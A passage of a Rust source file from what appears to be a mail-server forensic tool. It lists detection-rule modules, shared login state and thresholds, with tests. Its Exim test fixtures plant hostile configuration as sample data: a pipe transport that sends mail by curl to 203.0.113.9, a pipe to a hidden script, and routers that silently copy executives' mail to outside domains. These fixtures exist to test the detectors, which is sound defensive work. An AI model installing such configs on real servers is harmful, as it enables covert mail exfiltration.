//! Detection rules: one file per rule, each with its id, documentation and tests.
//!
//! A rule sees every [`Fact`] of the kinds it reads ([`Rule::kinds`]: a rule that reads only
//! some kinds says so, and the engine skips it for the others) once, in file order — time order for files on disk (read by their
//! first events' times), archive order for a bundle archive (newest rotation first) — so rules
//! aggregate into per-hour buckets and decide late: in [`Rule::seal`] for what the input has
//! left behind (when the engine can promise time order, see [`Rule`]) and in [`Rule::finish`]
//! for the rest; the findings do not depend on how often sealing happens. State that several
//! rules read (failed and successful logins) is gathered once, in [`Shared`]. To add a rule:
//! a file here with a `Rule` implementation and its tests (a `seal` that judges and drops what
//! lies before its hour, if it keeps per-hour state), one line in [`all`], its record in
//! [`crate::detect::catalog`] (phase, techniques, **roles**: they decide where its findings
//! go — block list, summary, timeline — with no other edit) and its row in
//! `docs/detections.md` (a test compares the two); findings are built on
//! `Finding::of("rule.id")`. Its entities take the default role of its rule roles
//! ([`crate::detect::entity`]); a rule that knows better (whose address is the account's
//! usual one, which is a stolen login's) tags them with `Entities::tag`, and a line that
//! decides the finding goes in `Finding::decisive` (it is quoted). A rule that reads the texts of an event kind no rule read before
//! adds it to [`crate::detect::fact::texts_read`].

pub mod abuse_bulk_send;
pub mod auth_brute_force;
pub mod auth_compromised;
pub mod auth_new_source;
pub mod auth_off_hours;
pub mod auth_rule_after_login;
pub mod auth_spray;
pub mod cleanup_mail_deletion;
pub mod cloud;
pub mod config_banner;
pub mod config_open_relay;
pub mod config_vrfy;
pub mod config_weak_tls;
pub mod config_webmail_version;
pub mod exchange_admin_cmdlet;
pub mod exchange_ecp_write;
pub mod exchange_oab_write;
pub mod exchange_proxynotshell;
pub mod exchange_proxyshell;
pub mod exchange_proxytoken;
pub mod exchange_ssrf;
pub mod exchange_webshell;
pub mod exfil_forwarding;
pub mod exfil_mailbox_download;
pub mod exfil_mailbox_export;
pub mod exfil_mailbox_search;
pub mod exfil_pop_retrieve;
pub mod exfil_protocol_enabled;
pub mod exploit_smtp_injection;
pub mod exploit_smtp_smuggling;
pub mod failures;
pub mod fleet_compromise_order;
pub mod fleet_shared_account;
pub mod fleet_shared_attacker;
pub mod fleet_shared_persistence;
pub mod host_history;
pub mod host_malware_process;
pub mod host_package_modified;
pub mod logins;
pub mod mail_access;
pub mod mail_actions;
pub mod mail_reading;
pub mod persistence_account;
pub mod persistence_bcc;
pub mod persistence_compiled_map;
pub mod persistence_cron;
pub mod persistence_forward;
pub mod persistence_mailbox_delegation;
pub mod persistence_mailbox_forwarding;
pub mod persistence_mailbox_rule;
pub mod persistence_oauth_consent;
pub mod persistence_pipe;
pub mod persistence_preload;
pub mod persistence_sender_rewrite;
pub mod persistence_service;
pub mod persistence_shell_init;
pub mod persistence_ssh_key;
pub mod persistence_transport;
pub mod persistence_transport_rule;
pub mod persistence_trusted_sender;
pub mod recon_enumeration;
pub mod recon_scan;
pub mod relay_open;
pub mod relay_probe;
pub mod service_change;
pub mod sources;
pub mod tamper_audit_disabled;
pub mod tamper_file;
pub mod tamper_log_age;
pub mod tamper_rejectlog;
pub mod tamper_time;
pub mod web;
pub mod web_webshell;
pub mod web_webshell_file;
pub mod webmail_roundcube_rce;
pub mod webmail_zimbra_mboximport;

use super::fact::Fact;
use super::finding::Finding;

/// The run's file table: path and manifest SHA-256 by file number.
pub type Files = [(String, Option<String>)];

/// State several rules read, gathered once per fact by the engine instead of once per rule:
/// failed logins per address and hour (brute force, spraying, takeover) and successful logins
/// per account, network and hour (the baseline rules).
#[derive(Debug, Default)]
pub struct Shared {
    /// Failed logins.
    pub failures: failures::Failures,
    /// Successful logins.
    pub logins: logins::Logins,
    /// The organisation's own domains (Exchange / M365 evidence).
    pub tenant: cloud::Tenant,
    /// Each account's own addresses and usual reading (the mailbox access rules).
    pub mail: mail_access::Baseline,
    /// Where each account acted from, and when (usual and new sources).
    pub sources: sources::Sources,
    /// Host account changes of the logs (`persistence.account`, through `Host`).
    pub accounts: persistence_account::Changes,
}

impl Shared {
    /// Empty, with the campaign gap of `t`.
    pub fn new(t: &Thresholds) -> Self {
        Shared {
            failures: failures::Failures::new(t.campaign_gap_hours, t.max_addresses),
            logins: logins::Logins::default(),
            tenant: cloud::Tenant::default(),
            mail: mail_access::Baseline::new(t),
            sources: sources::Sources::default(),
            accounts: persistence_account::Changes::default(),
        }
    }

    /// Sees one fact.
    pub fn observe(&mut self, f: &Fact) {
        self.tenant.observe(f);
        self.mail.observe(f);
        self.sources.observe(f);
        self.accounts.observe(f);
        if failures::is_failure(f) {
            self.failures.observe(f);
        } else {
            self.logins.observe(f);
        }
    }

    /// Before the rules seal `before`: settles what they will read.
    pub fn settle_before(&mut self, before: i64) {
        self.failures.settle_before(before);
    }

    /// After every rule sealed `before`: drops what no rule needs any more.
    pub fn seal(&mut self, before: i64) {
        self.failures.seal(before, failures::KEEP_HOURS);
        self.logins.seal(before);
    }

    /// The bounds the shared state reached.
    pub fn limits(&self) -> Vec<Limit> {
        let accounts = (self.accounts.dropped > 0).then(|| Limit {
            rule: "persistence.account",
            what: format!(
                "{} logged account change(s) beyond the first {} not kept",
                self.accounts.dropped,
                persistence_account::MAX_CHANGES
            ),
        });
        self.failures
            .folding()
            .map(|f| {
                Limit::folded(
                    "failed logins (auth.brute_force, auth.spray, auth.compromised)",
                    f,
                    self.failures.cap(),
                )
            })
            .into_iter()
            .chain(accounts)
            .collect()
    }

    /// Ends observation (settles what could only be decided with every fact seen).
    pub fn settle(&mut self) {
        self.failures.settle();
    }
}

/// A bound a rule's state reached on this input: what it aggregated instead of keeping one
/// by one (the run still reads every fact; findings on the aggregates name networks).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Limit {
    /// The rule (or the shared state several rules read).
    pub rule: &'static str,
    /// What was aggregated, with the cap.
    pub what: String,
}

impl Limit {
    /// The limit of a per-address store that folded addresses into networks.
    pub fn folded(rule: &'static str, f: failures::Folded, cap: usize) -> Limit {
        let mut what = format!(
            "{} address(es) with the fewest occurrences folded into their /24 (IPv6 /48) networks, judged as one source each, at the cap of {cap} addresses and networks held at once (threshold max_addresses)",
            f.addresses
        );
        if let Some((v4, v6)) = f.coarse_prefix {
            let busiest: Vec<String> = f
                .busiest
                .iter()
                .map(|(net, c)| format!("{net} ({})", c.count))
                .collect();
            what.push_str(&format!(
                "; {} of those networks then only counted, not judged, in /{v4} (IPv6 /{v6}) networks: {} occurrence(s), the most in {}",
                f.networks,
                f.counted,
                busiest.join(", ")
            ));
        }
        Limit { rule, what }
    }
}

/// One detection rule.
///
/// **Sealing**: on a long input the engine calls [`Rule::seal`] with an hour `before` such
/// that no later fact falls before it; a rule then judges what can no longer change (a
/// campaign that ended more than the campaign gap earlier, an account's hours before
/// `before`), keeps the findings, and drops that state, so memory follows the active part of
/// the input rather than its length. [`Rule::finish`] returns the kept findings with those of
/// what was left. A rule that keeps the default `seal` keeps everything to the end.
pub trait Rule: Send {
    /// A file starts: its number and path (facts name files by number; rules that judge a
    /// file's own order, such as the log-integrity ones, read the path).
    fn file_started(&mut self, _id: u32, _path: &str) {}
    /// The kinds of fact [`Rule::observe`] reads: the engine hands the rule only those (a
    /// rule that reads every kind, or filters otherwise, keeps the default).
    fn kinds(&self) -> Kinds {
        Kinds::ALL
    }
    /// Sees one fact of its [`Rule::kinds`] (rules that only read [`Shared`] state keep the
    /// default).
    fn observe(&mut self, _f: &Fact) {}
    /// Sees one fact of a log that repeats another one's lines (Exim's `rejectlog`, whose
    /// every line is also in the `mainlog`): only rules that compare the two read it; every
    /// other rule, and the shared state, see each event once.
    fn observe_copy(&mut self, _f: &Fact) {}
    /// Judges and forgets what lies wholly before hour `before` (see the trait's doc).
    fn seal(&mut self, _before: i64, _files: &Files, _shared: &Shared) {}
    /// Returns the findings.
    fn finish(&mut self, files: &Files, shared: &Shared) -> Vec<Finding>;
    /// The bounds this rule's state reached (aggregation instead of one entry per key).
    fn limits(&self) -> Vec<Limit> {
        Vec::new()
    }
    /// Returns the findings, knowing those of the rules before it (rules that judge events by
    /// the incident window, such as `service.config_change`, override this).
    fn finish_with(
        &mut self,
        files: &Files,
        shared: &Shared,
        _earlier: &[Finding],
    ) -> Vec<Finding> {
        self.finish(files, shared)
    }
}

/// A set of fact kinds ([`Rule::kinds`]): on a mail server's log most rules read one or two
/// kinds of the dozens, and calling each rule for every fact only to return was a quarter of
/// the detection thread's work.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Kinds(u64);

// Every kind has a bit.
const _: () = assert!((crate::events::record::Kind::AccountChange as u32) < 64);

impl Kinds {
    /// Every kind.
    pub const ALL: Kinds = Kinds(u64::MAX);

    /// These kinds.
    pub const fn of(kinds: &[crate::events::record::Kind]) -> Kinds {
        let mut bits = 0u64;
        let mut i = 0;
        while i < kinds.len() {
            bits |= 1 << (kinds[i] as u32);
            i += 1;
        }
        Kinds(bits)
    }

    /// Whether `kind` is one of them.
    pub fn has(self, kind: crate::events::record::Kind) -> bool {
        self.0 & (1 << (kind as u32)) != 0
    }
}

/// For each kind of fact (by its number), the indices of the rules of `rules` that read it,
/// in their order.
pub fn readers(rules: &[Box<dyn Rule>]) -> Vec<Vec<usize>> {
    (0..64u32)
        .map(|k| {
            (0..rules.len())
                .filter(|&i| rules[i].kinds().0 & (1 << k) != 0)
                .collect()
        })
        .collect()
}

/// Thresholds of the rules (defaults documented in `docs/detections.md`). Read from the
/// `[thresholds]` table of `detect --config FILE` and `--set name=value`; unknown names are
/// an error, missing ones keep their default.
#[derive(Debug, Clone, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Thresholds {
    /// Failed logins from one address in one campaign that make a brute force.
    pub brute_force_failures: u64,
    /// Hours of silence that end a campaign.
    pub campaign_gap_hours: i64,
    /// Distinct accounts tried by one address, each at most `spray_max_per_user` times.
    pub spray_users: usize,
    /// Most attempts per account for a spray (more is a brute force).
    pub spray_max_per_user: u64,
    /// Distinct addresses with few attempts each, within one hour, for a distributed spray.
    pub spray_sources: usize,
    /// Failed logins from an address (or its /24) in the 24 h before a success that make the
    /// success a takeover.
    pub compromise_failures: u64,
    /// Sessions without mail from one address in a campaign that make a scan.
    pub scan_sessions: u64,
    /// Distinct addresses of one network whose empty sessions together make a scan.
    pub scan_network_addresses: usize,
    /// Distinct addresses probed (RCPT to unknown users, VRFY/EXPN) that make enumeration.
    pub enumeration_addresses: usize,
    /// Refused relay attempts from one address in a campaign that make a probe.
    pub relay_probes: u64,
    /// Deliveries by one login in one hour that can make a burst.
    pub bulk_min: u64,
    /// How many times its usual hourly volume a login must send for a burst.
    pub bulk_factor: u64,
    /// Bursts on this many distinct days are a schedule (a newsletter), not abuse.
    pub bulk_recurring_days: usize,
    /// Shortest silence between two events of one file worth weighing as a cut.
    pub gap_minutes: i64,
    /// Minutes before and after a silence that give the log's rhythm.
    pub gap_context_minutes: i64,
    /// Share of minutes with an event, on both sides of a silence, for it to be a cut.
    pub gap_busy_share: f64,
    /// How far an event may be earlier than the one before it (clock steps, syslog reordering).
    pub reversal_minutes: i64,
    /// Logins an account needs before its hours and networks are a baseline.
    pub baseline_logins: u64,
    /// Distinct days those logins must span.
    pub baseline_days: usize,
    /// Hours around a usual hour of day that still count as usual.
    pub off_hours_margin: i64,
    /// Other accounts that must have used a network before it is shared (not new to anyone).
    pub shared_network_users: usize,
    /// Minutes after a sign-in from a new network within which a rule change by the same
    /// account is the business e-mail compromise sequence.
    pub rule_after_login_minutes: i64,
    /// Days an Exchange log folder must reach back less than the oldest one (and less than a
    /// quarter of its span) to be reported as wiped.
    pub log_age_days: i64,
    /// Hours after IMAP, POP or EWS is switched on for a mailbox within which a login or a
    /// read of it makes the switch-on a used one (`exfil.protocol_enabled`).
    pub protocol_use_hours: i64,
    /// Distinct addresses (and networks) one rule's per-address state holds before the
    /// addresses with the fewest occurrences are folded into their networks (reported).
    pub max_addresses: usize,
    /// Messages one mailbox's bursts from one address must read to be a download
    /// (`exfil.mailbox_download`, `exfil.pop_retrieve`).
    pub download_messages: u64,
    /// How many times the account's busiest earlier day of reading a download from a new
    /// network must reach to be high.
    pub download_factor: u64,
    /// Messages deleted or expunged in one burst that can make a cover-up
    /// (`cleanup.mail_deletion`).
    pub deletion_messages: u64,
    /// Input hours between two seals of the rules' state (0: keep everything to the end;
    /// findings are the same either way on input in time order, memory is not).
    pub seal_every_hours: i64,
}

impl Default for Thresholds {
    fn default() -> Self {
        Thresholds {
            brute_force_failures: 20,
            campaign_gap_hours: 1,
            spray_users: 5,
            spray_max_per_user: 3,
            spray_sources: 5,
            compromise_failures: 5,
            scan_sessions: 20,
            scan_network_addresses: 5,
            enumeration_addresses: 10,
            relay_probes: 3,
            bulk_min: 50,
            bulk_factor: 10,
            bulk_recurring_days: 3,
            gap_minutes: 10,
            gap_context_minutes: 30,
            gap_busy_share: 0.8,
            reversal_minutes: 5,
            baseline_logins: 20,
            baseline_days: 3,
            off_hours_margin: 1,
            shared_network_users: 2,
            rule_after_login_minutes: 120,
            log_age_days: 7,
            download_messages: 20,
            download_factor: 5,
            deletion_messages: 10,
            protocol_use_hours: 24,
            seal_every_hours: 6,
            max_addresses: 200_000,
        }
    }
}

impl Thresholds {
    /// Defaults, overridden by the `[thresholds]` table of `config` (TOML text) and then by
    /// `name=value` settings.
    pub fn load(config: Option<&str>, sets: &[String]) -> Result<Thresholds, String> {
        let mut table = match config {
            Some(text) => {
                let mut doc: toml::Table = toml::from_str(text).map_err(|e| e.to_string())?;
                match doc.remove("thresholds") {
                    Some(toml::Value::Table(t)) => t,
                    Some(_) => return Err("[thresholds] must be a table".into()),
                    None => toml::Table::new(),
                }
            }
            None => toml::Table::new(),
        };
        for set in sets {
            let one: toml::Table =
                toml::from_str(set).map_err(|e| format!("--set {set:?}: {e}"))?;
            table.extend(one);
        }
        toml::Value::Table(table)
            .try_into()
            .map_err(|e: toml::de::Error| e.to_string().trim().to_string())
    }
}

/// Every rule, in report order.
pub fn all(t: &Thresholds) -> Vec<Box<dyn Rule>> {
    vec![
        Box::new(recon_scan::Scan::new(t)),
        Box::new(recon_enumeration::Enumeration::new(t)),
        Box::new(relay_probe::RelayProbe::new(t)),
        Box::new(relay_open::OpenRelay::new(t)),
        Box::new(auth_brute_force::BruteForce::new(t)),
        Box::new(auth_spray::Spray::new(t)),
        Box::new(auth_compromised::Compromised::new(t)),
        Box::new(auth_off_hours::OffHours::new(t)),
        Box::new(auth_new_source::NewSource::new(t)),
        Box::new(abuse_bulk_send::BulkSend::new(t)),
        Box::new(exfil_forwarding::Forwarding::new(t)),
        Box::new(exchange_ssrf::Ssrf::new(t)),
        Box::new(exchange_ecp_write::EcpWrite::new(t)),
        Box::new(exchange_oab_write::OabWrite::new(t)),
        Box::new(exchange_webshell::Webshell::new(t)),
        Box::new(web_webshell::Webshell::new(t)),
        Box::new(exchange_admin_cmdlet::AdminCmdlet::new(t)),
        Box::new(exploit_smtp_injection::SmtpInjection::new(t)),
        Box::new(exploit_smtp_smuggling::SmtpSmuggling::new(t)),
        Box::new(persistence_mailbox_rule::MailboxRule::new(t)),
        Box::new(persistence_mailbox_forwarding::MailboxForwarding::new(t)),
        Box::new(persistence_transport_rule::TransportRule::new(t)),
        // After the web-shell, cmdlet and mailbox-rule rules: their findings are the
        // follow-ons that make an answered exploit a likely success.
        Box::new(exchange_proxyshell::new(t)),
        Box::new(exchange_proxynotshell::new(t)),
        Box::new(exchange_proxytoken::new(t)),
        Box::new(webmail_zimbra_mboximport::new(t)),
        Box::new(webmail_roundcube_rce::new(t)),
        Box::new(auth_rule_after_login::RuleAfterLogin::new(t)),
        // After the login and exploitation rules: their attackers and taken accounts decide
        // whose reading is theft.
        Box::new(exfil_mailbox_download::new(t)),
        Box::new(exfil_pop_retrieve::new(t)),
        Box::new(cleanup_mail_deletion::new(t)),
        // After the takeover rules: what a taken account did to mail is judged by their
        // findings (`mail_actions::Taken`).
        Box::new(exfil_mailbox_search::MailboxSearch::new(t)),
        Box::new(exfil_mailbox_export::MailboxExport::new(t)),
        Box::new(exfil_protocol_enabled::ProtocolEnabled::new(t)),
        Box::new(persistence_mailbox_delegation::MailboxDelegation::new(t)),
        Box::new(persistence_oauth_consent::OauthConsent::new(t)),
        Box::new(tamper_audit_disabled::AuditDisabled::new(t)),
        Box::new(tamper_time::TimeTamper::new(t)),
        Box::new(tamper_rejectlog::RejectLog::new(t)),
        // Last: it places events in the window the findings above define.
        Box::new(service_change::ServiceChange::new(t)),
    ]
}

/// Every configuration rule, in report order.
pub fn config_rules() -> Vec<Box<dyn super::host::ConfigRule>> {
    vec![
        Box::new(persistence_bcc::Bcc),
        Box::new(persistence_forward::Forward),
        Box::new(persistence_pipe::Pipe),
        Box::new(persistence_transport::Transport),
        Box::new(persistence_sender_rewrite::SenderRewrite),
        Box::new(persistence_trusted_sender::TrustedSender),
        Box::new(persistence_compiled_map::CompiledMap),
        Box::new(persistence_cron::Cron),
        Box::new(host_malware_process::MalwareProcess),
        Box::new(host_package_modified::PackageModified),
        Box::new(persistence_account::Account),
        Box::new(persistence_ssh_key::SshKey),
        Box::new(persistence_preload::Preload),
        Box::new(persistence_service::Service),
        Box::new(persistence_shell_init::ShellInit),
        Box::new(host_history::History),
        Box::new(web_webshell_file::WebshellFile),
        Box::new(config_open_relay::OpenRelay),
        Box::new(config_vrfy::Vrfy),
        Box::new(config_banner::Banner),
        Box::new(config_webmail_version::WebmailVersion),
        Box::new(config_weak_tls::WeakTls),
    ]
}

/// Every cross-host rule ([`crate::detect::fleet`]), in report order.
pub fn fleet_rules() -> Vec<Box<dyn crate::detect::fleet::FleetRule>> {
    vec![
        Box::new(fleet_compromise_order::CompromiseOrder),
        Box::new(fleet_shared_attacker::SharedAttacker),
        Box::new(fleet_shared_account::SharedAccount),
        Box::new(fleet_shared_persistence::SharedPersistence),
    ]
}

/// Builders of hosts for the configuration rules' tests.
#[cfg(test)]
pub mod config_tests {
    use crate::detect::host::Host;
    use crate::hostconf::{ConfFile, HostConf};

    /// A host with these files (host path, bytes) and symbolic links (path, target).
    pub fn host_full(files: &[(&str, &[u8])], links: &[(&str, &str)]) -> Host {
        let mut conf = HostConf::default();
        for (p, data) in files {
            conf.files.insert(
                p.to_string(),
                ConfFile {
                    shown: p.trim_start_matches('/').to_string(),
                    data: data.to_vec(),
                    mtime: None,
                    mtime_recorded: false,
                    sha256: None,
                },
            );
        }
        for (p, t) in links {
            conf.links.insert(p.to_string(), t.to_string());
        }
        Host::new(conf, &[])
    }

    /// A host with these text files.
    pub fn host(files: &[(&str, &str)]) -> Host {
        host_with_links(files, &[])
    }

    /// A host with these text files and links.
    pub fn host_with_links(files: &[(&str, &str)], links: &[(&str, &str)]) -> Host {
        let v: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
        host_full(&v, links)
    }

    /// A host with these binary files.
    pub fn host_bytes(files: &[(&str, &[u8])]) -> Host {
        host_full(files, &[])
    }

    /// The files and lines a finding cites.
    pub type Cited = Vec<(String, Vec<u64>)>;

    /// Each finding's title and what it cites.
    pub fn cited(findings: Vec<crate::detect::finding::Finding>) -> Vec<(String, Cited)> {
        findings
            .into_iter()
            .map(|f| {
                let ev = f.evidence.iter().map(|e| (e.path.clone(), e.lines.clone()));
                (f.title, ev.collect())
            })
            .collect()
    }

    /// Citations written out: (path, lines) pairs.
    pub fn cites(v: &[(&str, &[u64])]) -> Cited {
        v.iter().map(|(p, l)| (p.to_string(), l.to_vec())).collect()
    }
}

/// Exim's own idioms of persistence, across the configuration rules: a Debian split
/// configuration with a planted copy router, a forward router, a pipe router, a manualroute
/// to an outside host, a system filter and widened relay lists.
#[cfg(test)]
mod exim_config_tests {
    use super::config_rules;
    use super::config_tests::host;

    #[test]
    fn exim_persistence_is_found_in_its_own_idiom() {
        let h = host(&[
            ("/etc/mailname", "mx.lab.example\n"),
            (
                "/etc/exim4/update-exim4.conf.conf",
                "dc_eximconfig_configtype='internet'\ndc_other_hostnames='lab.example'\ndc_relay_nets='127.0.0.1 : 203.0.113.0/24'\n",
            ),
            (
                "/etc/exim4/conf.d/main/01_exim4-config_listmacrosdefs",
                "domainlist local_domains = @:localhost:lab.example\nhostlist relay_from_hosts = MAIN_RELAY_NETS\n",
            ),
            (
                "/etc/exim4/conf.d/main/02_exim4-config_options",
                "system_filter = /etc/exim4/system.filter\n",
            ),
            (
                "/etc/exim4/system.filter",
                "# Exim filter\nif $h_to: contains \"ceo\" then\n  unseen deliver archive@drop.example\nendif\n",
            ),
            (
                "/etc/exim4/conf.d/acl/30_exim4-config_check_rcpt",
                "acl_check_rcpt:\n  accept hosts = :\n  accept hosts = 198.51.100.0/24\n",
            ),
            (
                "/etc/exim4/conf.d/router/350_local",
                "carol_copy:\n  driver = redirect\n  domains = +local_domains\n  local_parts = carol\n  unseen\n  data = carol.backup@drop.example\n\ndave_fwd:\n  driver = redirect\n  local_parts = dave\n  data = dave@elsewhere.example\n\nticket:\n  driver = redirect\n  local_parts = helpdesk\n  data = |/tmp/.x/run.sh\n  pipe_transport = address_pipe\n\nhijack:\n  driver = manualroute\n  domains = +local_domains\n  route_list = * 203.0.113.25\n  transport = remote_smtp\n\nsmarthost:\n  driver = manualroute\n  domains = ! +local_domains\n  route_list = * 192.0.2.80\n",
            ),
        ]);
        let found: Vec<(&str, String)> = config_rules()
            .iter()
            .flat_map(|r| r.check(&h))
            .map(|f| (f.rule, f.title.clone()))
            .collect();
        let has =
            |rule: &str, part: &str| found.iter().any(|(r, t)| *r == rule && t.contains(part));
        assert!(
            has(
                "persistence.forward",
                "router carol_copy copies mail of carol"
            ),
            "{found:#?}"
        );
        assert!(
            has(
                "persistence.bcc",
                "system filter copies mail to archive@drop.example"
            ),
            "{found:#?}"
        );
        assert!(
            has(
                "persistence.forward",
                "router dave_fwd forwards mail of dave"
            ),
            "{found:#?}"
        );
        assert!(has("persistence.pipe", "run.sh"), "{found:#?}");
        assert!(
            has(
                "persistence.transport",
                "router hijack sends local mail to 203.0.113.25"
            ),
            "{found:#?}"
        );
        assert!(
            !found.iter().any(|(_, t)| t.contains("smarthost")),
            "{found:#?}"
        );
        assert!(
            has("config.open_relay", "outside networks 203.0.113.0/24"),
            "{found:#?}"
        );
        assert!(
            has(
                "config.open_relay",
                "ACL accepts outside networks 198.51.100.0/24"
            ),
            "{found:#?}"
        );
    }
}

/// Exim's further idioms: `file` redirects, pipe and smtp transports, routes by name, and
/// Debian's stock template (exim4-config 4.96) staying quiet.
#[cfg(test)]
mod exim_idiom_tests {
    use super::config_rules;
    use super::config_tests::host;

    const TEMPLATE: &str =
        include_str!("../../../tests/fixtures/exim-live/etc/exim4/exim4.conf.template");

    fn found(extra: &[(&str, &str)]) -> Vec<(&'static str, String)> {
        let mut files = vec![
            ("/etc/mailname", "mx.lab.example\n"),
            (
                "/etc/exim4/update-exim4.conf.conf",
                "dc_eximconfig_configtype='internet'\ndc_other_hostnames='lab.example'\ndc_use_split_config='false'\n",
            ),
            ("/etc/exim4/exim4.conf.template", TEMPLATE),
        ];
        files.extend_from_slice(extra);
        let h = host(&files);
        config_rules()
            .iter()
            .flat_map(|r| r.check(&h))
            .filter(|f| !f.rule.starts_with("config.vrfy") && !f.rule.starts_with("config.banner"))
            .map(|f| (f.rule, f.title.clone()))
            .collect()
    }

    #[test]
    fn debian_stock_template_is_quiet() {
        let got = found(&[]);
        assert!(got.is_empty(), "{got:#?}");
    }

    #[test]
    fn planted_routers_and_transports() {
        let planted = "primary_hostname = mx.lab.example\ndomainlist local_domains = lab.example\nbegin routers\nforwards:\n  driver = redirect\n  domains = +local_domains\n  file = /etc/exim4/forwards/${local_part}\n  no_verify\ncopy_ceo:\n  driver = accept\n  local_parts = ceo\n  transport = backdoor_pipe\n  unseen\nhijack:\n  driver = manualroute\n  domains = +local_domains\n  route_list = * mx.collect.example byname\n  transport = remote_smtp\nbegin transports\nbackdoor_pipe:\n  driver = pipe\n  command = /usr/bin/curl -s --data-binary @- http://203.0.113.9/in\nremote_smtp:\n  driver = smtp\n  hosts = 203.0.113.25\n  hosts_override\nprocmail_pipe:\n  driver = pipe\n  command = \"/usr/bin/procmail\"\n";
        let got = found(&[
            ("/etc/exim.conf", planted),
            ("/etc/exim4/forwards/ceo", "ceo@collect.example\n"),
            ("/etc/exim4/forwards/bob", "bob\n"),
        ]);
        let want = [
            (
                "persistence.forward",
                "Exim router forwards forwards mail of ceo to ceo@collect.example",
            ),
            (
                "persistence.pipe",
                "Mail of ceo (router copy_ceo) is piped to curl",
            ),
            (
                "persistence.transport",
                "Exim router hijack sends local mail to mx.collect.example",
            ),
            (
                "persistence.transport",
                "Exim transport remote_smtp sends mail to 203.0.113.25",
            ),
        ];
        let want: Vec<(&str, String)> = want.iter().map(|(r, t)| (*r, t.to_string())).collect();
        assert_eq!(got, want);
    }
}

/// Sendmail as Debian installs it, and with persistence planted in its idiom
/// (`tests/fixtures/sendmail-stock`, `tests/fixtures/sendmail-planted`: `.cf` files m4 made).
#[cfg(test)]
mod sendmail_stock_tests {
    use super::config_rules;
    use super::config_tests::{cited, host};

    macro_rules! fixture {
        ($dir:literal, $file:literal) => {
            (
                concat!("/etc/mail/", $file),
                include_str!(concat!(
                    "../../../tests/fixtures/",
                    $dir,
                    "/etc/mail/",
                    $file
                )),
            )
        };
    }

    fn found(files: &[(&str, &str)]) -> Vec<(&'static str, String)> {
        let h = host(files);
        let mut out = Vec::new();
        for r in config_rules() {
            let f = r.check(&h);
            let rules: Vec<&'static str> = f.iter().map(|f| f.rule).collect();
            for (rule, (title, _)) in rules.into_iter().zip(cited(f)) {
                out.push((rule, title));
            }
        }
        out
    }

    #[test]
    fn debian_stock_is_quiet_but_for_vrfy() {
        let got = found(&[
            fixture!("sendmail-stock", "sendmail.mc"),
            fixture!("sendmail-stock", "sendmail.cf"),
            fixture!("sendmail-stock", "access"),
            fixture!("sendmail-stock", "local-host-names"),
        ]);
        // Debian's PrivacyOptions refuse VRFY only before HELO (`needvrfyhelo`).
        assert_eq!(
            got,
            [(
                "config.vrfy_enabled",
                "VRFY answers on sendmail".to_string()
            )]
        );
    }

    #[test]
    fn planted_items_are_found_at_their_lines() {
        let got = found(&[
            fixture!("sendmail-planted", "sendmail.mc"),
            fixture!("sendmail-planted", "sendmail.cf"),
            fixture!("sendmail-planted", "access"),
            fixture!("sendmail-planted", "local-host-names"),
            fixture!("sendmail-planted", "mailertable"),
            fixture!("sendmail-planted", "genericstable"),
        ]);
        let want = [
            (
                "persistence.transport",
                "Sendmail SMART_HOST sends all outgoing mail through 203.0.113.25",
            ),
            (
                "persistence.transport",
                "Mail for own domain lab.example is routed to outside host mx.collect.example",
            ),
            (
                "persistence.transport",
                "Mail for partner.example is routed to 198.51.100.9",
            ),
            (
                "persistence.sender_rewrite",
                "Mail from cfo leaves as cfo@lab-example.net",
            ),
            (
                "persistence.trusted_sender",
                "Sendmail trusts www-data to send mail as anyone",
            ),
            (
                "config.open_relay",
                "Sendmail relays for outside network 203.0.113",
            ),
            (
                "config.open_relay",
                "Sendmail relays for everyone (promiscuous_relay)",
            ),
            ("config.vrfy_enabled", "VRFY answers on sendmail"),
        ];
        let want: Vec<(&str, String)> = want.iter().map(|(r, t)| (*r, t.to_string())).collect();
        assert_eq!(got, want);
    }
}

#[cfg(test)]
mod threshold_tests {
    use super::Thresholds;

    #[test]
    fn thresholds_from_toml_and_settings() {
        let t = Thresholds::load(
            Some("[thresholds]\nbrute_force_failures = 50\n"),
            &["scan_sessions = 7".into()],
        )
        .unwrap();
        assert_eq!(
            (t.brute_force_failures, t.scan_sessions, t.spray_users),
            (50, 7, 5)
        );
        assert!(Thresholds::load(Some("[thresholds]\nno_such = 1\n"), &[]).is_err());
        assert!(Thresholds::load(None, &["brute_force_failures = \"many\"".into()]).is_err());
    }
}

/// Builders shared by the rules' tests.
#[cfg(test)]
pub mod tests {
    use super::{Files, Rule};
    use crate::detect::fact::Fact;
    use crate::detect::finding::Finding;
    use crate::events::record::Kind;

    /// 2026-03-04T00:00:00Z in µs.
    pub const T0: i64 = 1_772_582_400_000_000;

    /// A fact of `kind` at `secs` after [`T0`] whose actor is `user` (none when empty).
    pub fn fact(kind: Kind, secs: i64, ip: &str, user: &str) -> Fact {
        Fact::new(
            T0 + secs * 1_000_000,
            kind,
            Some("smtp"),
            [
                Some(ip),
                (!user.is_empty()).then_some(user),
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
            ],
            0,
            secs as u64 + 1,
        )
    }

    /// A failed login.
    pub fn failure(secs: i64, ip: &str, user: &str) -> Fact {
        fact(Kind::AuthFailure, secs, ip, user)
    }

    /// A successful login.
    pub fn success(secs: i64, ip: &str, user: &str) -> Fact {
        fact(Kind::AuthSuccess, secs, ip, user)
    }

    /// Runs one rule over facts (with the shared state, as the engine does).
    pub fn run(mut rule: Box<dyn Rule>, facts: &[Fact]) -> Vec<Finding> {
        let mut shared = super::Shared::default();
        for f in facts {
            shared.observe(f);
            rule.observe(f);
        }
        shared.settle();
        let files: &Files = &[("var/log/mail.log".to_string(), None)];
        rule.finish(files, &shared)
    }

    /// Runs one rule over facts (in time order) as the engine does on a long input: sealing
    /// at every hour boundary the facts cross.
    pub fn run_sealed(mut rule: Box<dyn Rule>, facts: &[Fact]) -> Vec<Finding> {
        let shared = feed_sealed(rule.as_mut(), facts);
        let files: &Files = &[("var/log/mail.log".to_string(), None)];
        rule.finish(files, &shared)
    }

    /// Feeds facts (in time order) to one rule as the engine does on a long input, sealing at
    /// every hour boundary they cross; the shared state, settled, to finish with.
    pub fn feed_sealed(rule: &mut dyn Rule, facts: &[Fact]) -> super::Shared {
        let mut shared = super::Shared::default();
        let files: &Files = &[("var/log/mail.log".to_string(), None)];
